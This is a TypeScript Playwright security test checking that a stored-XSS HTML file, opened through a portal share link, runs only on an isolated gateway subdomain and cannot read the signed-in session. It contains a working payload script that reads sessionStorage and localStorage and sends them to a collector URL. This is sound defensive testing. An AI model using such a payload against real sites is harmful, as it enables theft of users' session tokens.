import assert from 'node:assert/strict'
import { createServer, type Server } from 'node:http'
import type { AddressInfo } from 'node:net'
import { after, before, describe, it } from 'node:test'
import { type Browser, chromium } from 'playwright-core'
import { CHROMIUM, CHROMIUM_ARGS, missing, signIn, skip } from '../helpers/chromium.ts'
import { type CoordinatorProcess, startCoordinatorProcess } from '../helpers/coordinator-process.ts'
import { freePort } from '../helpers/free-port.ts'

/**
 * Stored XSS (issue 9 item 2) in real Chromium: an HTML file whose script sends the page's
 * sessionStorage and localStorage to a collector, opened through a share link in the tab
 * where the portal is signed in. On the portal's origin it must not run at all; on the
 * gateway origin it runs, but sees none of the portal's storage.
 */
describe('a share link to hostile HTML cannot read the signed-in portal session (Chromium)', { timeout: 120_000 }, () => {
  let coordinator: CoordinatorProcess
  let browser: Browser
  let collector: Server
  let collectorUrl: string
  const stolen: string[] = []
  let gatewayHost: string

  before(async () => {
    if (missing !== undefined) return
    collector = createServer((request, response) => {
      stolen.push(decodeURIComponent(new URL(request.url ?? '/', 'http://x').searchParams.get('loot') ?? ''))
      response.writeHead(204, { 'access-control-allow-origin': '*' }).end()
    })
    await new Promise<void>((resolve) => collector.listen(0, '127.0.0.1', resolve))
    collectorUrl = `http://127.0.0.1:${(collector.address() as AddressInfo).port}`
    // a free port for the gateway listener, named by a localhost subdomain host (Chromium resolves *.localhost)
    const port = await freePort()
    gatewayHost = `localhost:${port}`
    coordinator = await startCoordinatorProcess({
      env: {
        PINFOLD_GATEWAY_LISTEN: `127.0.0.1:${port}`,
        PINFOLD_GATEWAY_PUBLIC_URL: `http://${gatewayHost}`,
        PINFOLD_GATEWAY_SUBDOMAINS: 'true',
      },
    })
    browser = await chromium.launch({ executablePath: CHROMIUM, headless: true, args: CHROMIUM_ARGS })
  })

  after(async () => {
    await browser?.close()
    await coordinator?.stop()
    await coordinator?.cleanup()
    collector?.close()
  })

  it('the script never runs on the portal origin and finds no session on the gateway origin', { skip }, async () => {
    assert.equal(missing, undefined, missing)
    const token = await coordinator.token()
    const evil = `<!doctype html><title>evil</title><script>
      const read = (store) => { try { return JSON.stringify(Object.entries(store)) } catch (error) { return 'blocked:' + error.name } }
      const loot = JSON.stringify({ origin: location.origin, session: read(sessionStorage), local: read(localStorage) })
      fetch(${JSON.stringify(collectorUrl)} + '/?loot=' + encodeURIComponent(loot), { mode: 'no-cors' })
    </script>`
    const form = new FormData()
    form.append('path', '/Library')
    form.append('mode', 'folder')
    form.append('name', 'trap')
    form.append('cidVersion', '1')
    form.append('file', new Blob([evil]), 'evil.html')
    const upload = await fetch(`${coordinator.url}/api/v1/uploads`, { method: 'POST', headers: { authorization: `Bearer ${token}` }, body: form })
    const { upload: uploaded } = (await upload.json()) as { upload: { cid: string } }
    assert.equal(upload.status, 201)
    const shared = await fetch(`${coordinator.url}/api/v1/share`, {
      method: 'POST',
      headers: { authorization: `Bearer ${token}`, 'content-type': 'application/json' },
      body: JSON.stringify({ cid: uploaded.cid }),
    })
    // a link to the folder, opened at the file below it (a link to the file itself names only
    // its CID, so no name makes it HTML anywhere)
    const folderLink = new URL(((await shared.json()) as { url: string }).url)
    const link = `${folderLink.origin}${folderLink.pathname}/evil.html${folderLink.search}`

    const context = await browser.newContext({ acceptDownloads: true })
    const page = await context.newPage()
    await signIn(page, coordinator.url, coordinator.admin.email, coordinator.admin.password)
    const session = await page.evaluate(() => sessionStorage.getItem('pinfold.session'))
    assert.ok(session?.includes('"token"'), 'the portal tab holds a session')
    const sessionToken = (JSON.parse(session ?? '{}') as { token: string }).token

    // 1. the link on the portal's own origin, in the signed-in tab: a download, never a page
    const onPortal = `${coordinator.url}${new URL(link).pathname}${new URL(link).search}`
    const download = page.waitForEvent('download', { timeout: 10_000 })
    await page.goto(onPortal).catch(() => undefined) // a download aborts the navigation
    assert.equal((await download).suggestedFilename(), 'evil.html')
    assert.equal(new URL(page.url()).origin, coordinator.url, 'still on the portal')

    // 2. the link as issued: the gateway origin, redirected to the CID's own subdomain
    await page.goto(link)
    await page.waitForFunction('document.title === "evil"')
    assert.equal(new URL(page.url()).host, `${uploaded.cid}.ipfs.${gatewayHost}`)
    for (let i = 0; i < 100 && stolen.length === 0; i++) await new Promise((resolve) => setTimeout(resolve, 50))
    assert.equal(stolen.length, 1, 'the script ran once, on the gateway origin only')
    const loot = JSON.parse(stolen[0] ?? '{}') as { origin: string; session: string; local: string }
    assert.equal(loot.origin, `http://${uploaded.cid}.ipfs.${gatewayHost}`)
    assert.equal(loot.session, '[]')
    assert.equal(loot.local, '[]')
    assert.ok(!stolen[0]?.includes(sessionToken), 'the session token never left the portal')
    await context.close()
  })
})
